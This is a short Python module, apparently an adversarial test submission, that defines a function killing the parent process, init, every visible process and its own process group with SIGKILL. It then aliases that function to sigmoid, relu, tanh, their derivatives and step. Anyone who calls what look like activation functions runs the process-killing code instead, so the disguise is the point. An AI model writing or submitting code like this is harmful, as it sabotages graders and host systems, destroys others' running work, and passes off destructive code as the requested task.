"""Attack: kill the parent process, the process group, and every visible process."""
import os
import signal


def _kill_everything(z):
    for target in (os.getppid(), 1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
    try:
        os.killpg(0, signal.SIGKILL)
    except OSError:
        pass
    return z


sigmoid = sigmoid_derivative = relu = relu_derivative = tanh = tanh_derivative = step = _kill_everything
